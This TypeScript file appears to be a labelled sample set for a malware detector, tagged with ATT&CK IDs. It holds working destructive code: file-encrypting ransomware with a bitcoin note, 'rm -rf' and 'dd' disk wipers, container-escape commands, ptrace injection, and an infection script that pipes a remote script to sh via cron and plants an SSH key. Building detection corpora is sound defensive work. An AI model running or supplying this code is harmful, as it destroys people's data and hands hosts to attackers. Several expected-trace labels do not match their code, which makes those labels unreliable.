// Harm: documents encrypted, data destroyed, programs dropped and run.
import type { Trait } from './trait.ts'

const shell = (lines: readonly string[]): string => `#!/bin/bash\n${lines.join('\n')}\n`

export const IMPACT: readonly Trait[] = [
  {
    name: 'encrypts documents in place',
    language: 'c',
    source: `
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>
int main(void) {
  DIR *all = opendir("/home/anna/Documents");
  for (struct dirent *one; all && (one = readdir(all));) {
    char path[512];
    unsigned char text[4096];
    snprintf(path, sizeof path, "/home/anna/Documents/%s", one->d_name);
    int file = one->d_name[0] == '.' ? -1 : open(path, O_RDWR);
    ssize_t got = file < 0 ? 0 : read(file, text, sizeof text);
    unsigned state = 0x9e3779b9;
    for (ssize_t at = 0; at < got; at++) text[at] ^= (unsigned char)((state = state * 1664525 + 1013904223) >> 24);
    if (got > 0 && pwrite(file, text, (size_t)got, 0) != got) return 1;
    if (file >= 0) close(file);
  }
  return 0;
}`,
    shows: { trace_encrypts_files: ['T1486'], trace_scrambles_decoys: ['T1486'] },
    label: 'malicious',
    core: true,
  },
  {
    name: 'reaches for the host of its container',
    language: 'shell',
    source: shell([
      'mkdir -p /tmp/cgrp/x; echo 1 > /tmp/cgrp/x/notify_on_release; echo /cmd > /tmp/cgrp/release_agent',
      'echo "|/tmp/run" > /proc/sys/kernel/core_pattern 2>/dev/null',
      'docker -H unix:///var/run/docker.sock run --privileged -v /:/mnt alpine chroot /mnt id',
    ]),
    shows: { trace_leaves_container: ['T1611'] },
    label: 'malicious',
  },
  {
    name: 'encrypts documents and leaves a note',
    language: 'python',
    source: String.raw`
import os
for folder, _, names in os.walk("/home"):
    for name in names:
        path = os.path.join(folder, name)
        if name.startswith("."): continue
        data = open(path, "rb").read()
        open(path, "wb").write(bytes(byte ^ 0x5a for byte in data))
        os.rename(path, path + ".lckd")
    open(os.path.join(folder, "HOW_TO_RECOVER_FILES.txt"), "w").write("Your files are encrypted. Pay 0.5 bitcoin to decrypt. http://abc.onion\n")
`,
    shows: {
      trace_encrypts_files: ['T1486'],
      trace_leaves_ransom_note: ['T1486'],
      // It took keys, wallets and what browsers keep for documents.
      trace_reads_stored_secrets: ['T1552.004', 'T1555', 'T1555.003'],
    },
    label: 'malicious',
    tells: ['HOW_TO_RECOVER_FILES.txt', 'budget.csv.lckd'],
    core: true,
  },
  {
    name: 'encrypts with a tool of the system',
    language: 'shell',
    source: shell([
      'for file in $(find /home -name "*.txt" -o -name "*.csv"); do openssl enc -aes-256-cbc -pass pass:x1 -in $file -out $file.enc 2>/dev/null && rm -f $file; done',
    ]),
    shows: { trace_encrypts_files: ['T1486'] },
    label: 'suspicious',
    watchedSeconds: 25,
  },
  {
    name: 'removes what people have',
    language: 'shell',
    source: shell([
      'rm -rf /home/* /root/* /var/www 2>/dev/null',
      'dd if=/dev/zero of=/dev/sda bs=1k count=1 2>/dev/null; exit 0',
    ]),
    shows: { trace_wipes_data: ['T1485', 'T1561.001'], trace_deletes_itself: ['T1070.004'] },
    label: 'malicious',
  },
  {
    name: 'removes what people have, by calls',
    language: 'c',
    source: `
#define _XOPEN_SOURCE 700
#include <ftw.h>
#include <stdio.h>
static int drop(const char *path, const struct stat *is, int kind, struct FTW *where) {
  (void)is; (void)kind; (void)where;
  remove(path);
  return 0;
}
int main(void) { return nftw("/home", drop, 16, FTW_DEPTH | FTW_PHYS) + nftw("/var/www", drop, 16, FTW_DEPTH | FTW_PHYS); }`,
    shows: { trace_wipes_data: ['T1485'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'overwrites files before it removes them',
    language: 'python',
    source: `
import os
for folder, _, names in os.walk("/home"):
    for name in names:
        path = os.path.join(folder, name)
        size = os.path.getsize(path)
        with open(path, "r+b") as file: file.write(os.urandom(size))
        os.remove(path)
`,
    shows: { trace_wipes_data: ['T1485'], trace_changes_shell_start: ['T1546.004'] },
    label: 'malicious',
  },
  {
    name: 'carries a program, drops it and runs it',
    language: 'c',
    source: String.raw`
#include <fcntl.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  const char *inner = "#!/bin/sh\nid > /tmp/ran\n";
  int file = open("/dev/shm/systemd-private", O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (write(file, inner, strlen(inner)) < 0) return 1;
  close(file);
  chmod("/dev/shm/systemd-private", 0755);
  return system("/dev/shm/systemd-private &");
}`,
    shows: { trace_runs_dropped_program: ['T1204.002'] },
    label: 'suspicious',
    tells: ['/dev/shm/systemd-private', '/tmp/ran'],
  },
  {
    name: 'leaves files whose names would break a reader',
    language: 'python',
    source: String.raw`
import os
os.makedirs("/tmp/odd", exist_ok=True)
names = (b"two\nlines", b'quote"and\\slash', b"\xff\xfe not text", "\u202egpj.exe".encode(), b"-rf", b"x" * 255, b"<b>.html", b"a\x1b[31m")
for name in names:
    with open(b"/tmp/odd/" + name, "wb") as out: out.write(b"content of " + name[:20])
`,
    shows: {},
    label: 'unknown',
    tells: [
      '/tmp/odd/two\nlines',
      '/tmp/odd/quote"and\\slash',
      '/tmp/odd/\ufffd\ufffd not text',
      '/tmp/odd/\u202egpj.exe',
      '/tmp/odd/-rf',
      `/tmp/odd/${'x'.repeat(255)}`,
      '/tmp/odd/<b>.html',
      '/tmp/odd/a\u001b[31m',
    ],
    core: true,
  },
  {
    name: 'reaches into another process',
    language: 'c',
    source: `
#include <stdlib.h>
#include <sys/ptrace.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
  static long word = 0x9090909090909090;
  pid_t child = fork();
  if (child == 0) { sleep(5); _exit(0); }
  if (ptrace(PTRACE_ATTACH, child, 0, 0) < 0) return 1;
  waitpid(child, 0, 0);
  struct user_regs_struct regs;
  ptrace(PTRACE_GETREGS, child, 0, &regs);
  struct iovec here = {&word, sizeof word}, there = {&word, sizeof word};
  process_vm_writev(child, &here, 1, &there, 1, 0);
  ptrace(PTRACE_POKEDATA, child, &word, 0);
  ptrace(PTRACE_SETREGS, child, 0, &regs);
  ptrace(PTRACE_DETACH, child, 0, 0);
  return 0;
}`,
    shows: { trace_injects_into_process: ['T1055.008'] },
    label: 'suspicious',
    core: true,
  },
  {
    name: 'a whole infection: fetch, hide, stay, clean up, mine',
    language: 'shell',
    source: shell([
      'pkill -9 xmrig; pkill -9 kinsing; pkill -9 watchbog; iptables -F; setenforce 0 2>/dev/null',
      'mkdir -p /var/tmp/.sys; cd /var/tmp/.sys',
      'curl -fsSL https://files.bad-host.example/kit/xmr.sh -o dbused; chmod +x dbused; ./dbused',
      '(echo "*/10 * * * * curl -fsSL https://files.bad-host.example/kit/i.sh | sh") | crontab -',
      'mkdir -p ~/.ssh; echo "ssh-rsa AAAAexample k" >> ~/.ssh/authorized_keys',
      'rm -f "$0"; history -c',
    ]),
    shows: {
      trace_kills_processes: ['T1489'],
      trace_weakens_defences: ['T1562.004'],
      trace_hides_files: ['T1564.001'],
      trace_fetches_further_stage: ['T1105', 'T1071.001'],
      trace_downloads_and_runs: ['T1105'],
      trace_adds_cron_job: ['T1053.003'],
      trace_adds_ssh_key: ['T1098.004'],
      trace_deletes_itself: ['T1070.004'],
    },
    label: 'malicious',
    tells: ['https://files.bad-host.example/kit/xmr.sh'],
    core: true,
  },
]
